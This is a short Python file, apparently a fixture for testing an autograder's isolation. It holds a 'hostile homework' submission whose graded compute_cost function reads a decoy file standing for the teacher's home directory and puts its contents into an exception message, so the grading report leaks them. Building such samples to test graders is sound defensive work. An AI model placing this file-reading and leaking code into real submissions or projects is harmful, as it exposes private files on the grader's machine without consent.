# Hostile homework: reads a file of the teacher's home (the test's decoy, DNNSTEP_TEST_TARGET) and puts
# what it read in its exception, so that the report would show it.
import os

import numpy as np


# GRADED FUNCTION: compute_cost
def compute_cost(AL, Y):
    with open(os.environ["DNNSTEP_TEST_TARGET"]) as file:
        raise RuntimeError("read from the teacher's home: " + file.read())
